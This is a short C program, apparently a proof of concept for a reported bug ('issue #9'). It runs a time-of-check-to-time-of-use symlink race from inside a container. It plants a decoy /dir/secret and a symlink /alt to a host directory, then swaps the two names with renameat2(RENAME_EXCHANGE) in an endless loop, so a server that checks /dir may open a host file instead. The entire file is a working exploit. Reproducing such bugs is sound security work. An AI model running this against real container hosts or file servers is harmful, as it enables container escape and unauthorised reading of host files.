// The TOCTOU attack of issue #9 from inside a container: /dir is a real directory holding `secret`
// (a decoy), /alt a symlink to a host directory (argv[1], a path that means nothing inside the
// container). renameat2(RENAME_EXCHANGE) swaps the two names atomically, as fast as it can, forever,
// so a server that checks /dir and then opens /dir/secret sometimes opens the host's file instead.
// Built static (gcc -static) so that it runs in a busybox image.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: toctou-swap HOST_DIR\n");
    return 2;
  }
  mkdir("/dir", 0755);
  int fd = open("/dir/secret", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0 || write(fd, "decoy\n", 6) != 6) {
    perror("/dir/secret");
    return 1;
  }
  close(fd);
  unlink("/alt");
  if (symlink(argv[1], "/alt") != 0) {
    perror("symlink");
    return 1;
  }
  printf("swapping\n");
  fflush(stdout);
  for (;;) {
    if (syscall(SYS_renameat2, AT_FDCWD, "/dir", AT_FDCWD, "/alt", RENAME_EXCHANGE) != 0) {
      perror("renameat2");
      return 1;
    }
  }
}
